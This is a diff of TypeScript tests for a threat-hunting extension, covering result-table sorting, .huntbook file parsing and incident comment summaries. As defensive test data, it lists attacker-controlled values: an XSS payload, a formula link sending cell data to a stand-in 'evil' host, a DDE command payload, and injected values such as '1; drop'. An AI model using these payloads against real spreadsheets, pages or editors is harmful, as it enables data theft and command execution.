@@ -5,8 +5,17 @@ import { resultSummary, SUMMARY_MAX } from '../../src/hunting/summary';
 
 /** Values an attacker can put in any field a hunt returns. */
 const HOSTILE = [
-  '<img src=x onerror=alert(1)>', '=HYPERLINK("http://evil/"&A1,"click")', '+cmd|\' /C calc\'!A0', '-2+3', '@SUM(A1)',
-  '\u202Eexe.txt', 'line1\nline2\r\nline3', 'tab\there', '"quoted", comma', '[link](command:workbench.action.reloadWindow)', '$(alert)',
+  '<img src=x onerror=alert(1)>',
+  '=HYPERLINK("http://evil/"&A1,"click")',
+  "+cmd|' /C calc'!A0",
+  '-2+3',
+  '@SUM(A1)',
+  '\u202Eexe.txt',
+  'line1\nline2\r\nline3',
+  'tab\there',
+  '"quoted", comma',
+  '[link](command:workbench.action.reloadWindow)',
+  '$(alert)',
 ];
 
 function output(rows: HuntOutput['rows'], columns = [{ name: 'A', type: 'String' }]): HuntOutput {
@@ -23,8 +32,14 @@ describe('hunting: the result table model', () => {
 
   it('sorts numbers by value, dates by time, text case-insensitively, empties last, stably', () => {
     const nums = output([[10], [2], [null], ['x'], [33]], [{ name: 'N', type: 'Int64' }]);
-    assert.deepEqual(sortOrder(nums, 0, 'asc').map(i => nums.rows[i][0]), [2, 10, 33, 'x', null]);
-    assert.deepEqual(sortOrder(nums, 0, 'desc').map(i => nums.rows[i][0]), ['x', 33, 10, 2, null]);
+    assert.deepEqual(
+      sortOrder(nums, 0, 'asc').map(i => nums.rows[i][0]),
+      [2, 10, 33, 'x', null],
+    );
+    assert.deepEqual(
+      sortOrder(nums, 0, 'desc').map(i => nums.rows[i][0]),
+      ['x', 33, 10, 2, null],
+    );
     const dates = output([['2026-01-02T00:00:00Z'], ['2025-12-31T23:00:00Z'], ['']], [{ name: 'T', type: 'DateTime' }]);
     assert.deepEqual(sortOrder(dates, 0, 'asc'), [1, 0, 2]);
     const text = output([['b'], ['A'], ['a'], ['C']]);
@@ -58,7 +73,10 @@ describe('hunting: the result table model', () => {
 
   it('row count and truncation', () => {
     assert.equal(rowCountText(output([[1]])), '1 row');
-    assert.equal(rowCountText({ rows: new Array(100_000).fill([1]), truncated: true, rowLimit: 100_000 }), '100,000 rows (truncated at 100,000 rows by the service)');
+    assert.equal(
+      rowCountText({ rows: new Array(100_000).fill([1]), truncated: true, rowLimit: 100_000 }),
+      '100,000 rows (truncated at 100,000 rows by the service)',
+    );
   });
 
   it('an output read back is refused unless well-formed (no objects in cells, no missing columns)', () => {
@@ -75,7 +93,12 @@ describe('hunting: the .huntbook format', () => {
     incidentId: '123',
     cells: [
       { kind: 'markdown', source: '# Hunt\n\nnotes' },
-      { kind: 'kql', title: 'Processes on "ws-01"', timespan: '2026-01-01T00:00:00Z/2026-01-02T00:00:00Z', source: 'DeviceProcessEvents\n| where DeviceName == "ws\\"01"\n| take 10' },
+      {
+        kind: 'kql',
+        title: 'Processes on "ws-01"',
+        timespan: '2026-01-01T00:00:00Z/2026-01-02T00:00:00Z',
+        source: 'DeviceProcessEvents\n| where DeviceName == "ws\\"01"\n| take 10',
+      },
       { kind: 'kql', source: '' },
     ],
   };
@@ -95,17 +118,26 @@ describe('hunting: the .huntbook format', () => {
 
   it('a broken file says where, and loads nothing', () => {
     const bad: [string, RegExp][] = [
-      ['{', /not JSON/], ['[]', /top level/], ['{"huntbook":2,"cells":[]}', /"huntbook" must be 1/], ['{"huntbook":1}', /"cells" must be a list/],
+      ['{', /not JSON/],
+      ['[]', /top level/],
+      ['{"huntbook":2,"cells":[]}', /"huntbook" must be 1/],
+      ['{"huntbook":1}', /"cells" must be a list/],
       ['{"huntbook":1,"cells":[{"kind":"python","source":[]}]}', /cell 1: "kind"/],
       ['{"huntbook":1,"cells":[{"kind":"kql","source":[1]}]}', /cell 1: "source"/],
       ['{"huntbook":1,"cells":[{"kind":"kql","source":[],"timespan":"yesterday"}]}', /cell 1: "timespan"/],
       ['{"huntbook":1,"incidentId":"1; drop","cells":[]}', /"incidentId"/],
     ];
-    for (const [text, re] of bad) assert.throws(() => parseHuntbook(text), (e: unknown) => e instanceof HuntbookFormatError && re.test(e.message), text);
+    for (const [text, re] of bad)
+      assert.throws(
+        () => parseHuntbook(text),
+        (e: unknown) => e instanceof HuntbookFormatError && re.test(e.message),
+        text,
+      );
   });
 
   it('timespans: the ISO forms the service accepts', () => {
-    for (const ok of ['P30D', 'PT12H', 'P1DT2H', '2026-01-01T00:00:00Z/2026-01-02T00:00:00Z', 'P30D/2026-01-02T00:00:00Z', '2026-01-01/P7D']) assert.ok(isTimespan(ok), ok);
+    for (const ok of ['P30D', 'PT12H', 'P1DT2H', '2026-01-01T00:00:00Z/2026-01-02T00:00:00Z', 'P30D/2026-01-02T00:00:00Z', '2026-01-01/P7D'])
+      assert.ok(isTimespan(ok), ok);
     for (const bad of ['', 'P', '7d', 'P1D/P2D', 'a/b/c', 'P1D | take 1']) assert.ok(!isTimespan(bad), bad);
   });
 
@@ -122,7 +154,14 @@ describe('hunting: the .huntbook format', () => {
 describe('hunting: the comment for "Add result to incident"', () => {
   it('has the query, the row count and the first rows as one-line plain text', () => {
     const rows = Array.from({ length: 25 }, (_, i) => [`dev-${i}`, i]);
-    const text = resultSummary({ ...output(rows, [{ name: 'DeviceName', type: 'String' }, { name: 'N', type: 'Int64' }]), query: 'DeviceProcessEvents\n| take 25', timespan: 'P7D' });
+    const text = resultSummary({
+      ...output(rows, [
+        { name: 'DeviceName', type: 'String' },
+        { name: 'N', type: 'Int64' },
+      ]),
+      query: 'DeviceProcessEvents\n| take 25',
+      timespan: 'P7D',
+    });
     assert.match(text, /Query:\n {4}DeviceProcessEvents\n {4}\| take 25/);
     assert.match(text, /Time range: P7D/);
     assert.match(text, /Rows: 25 rows/);
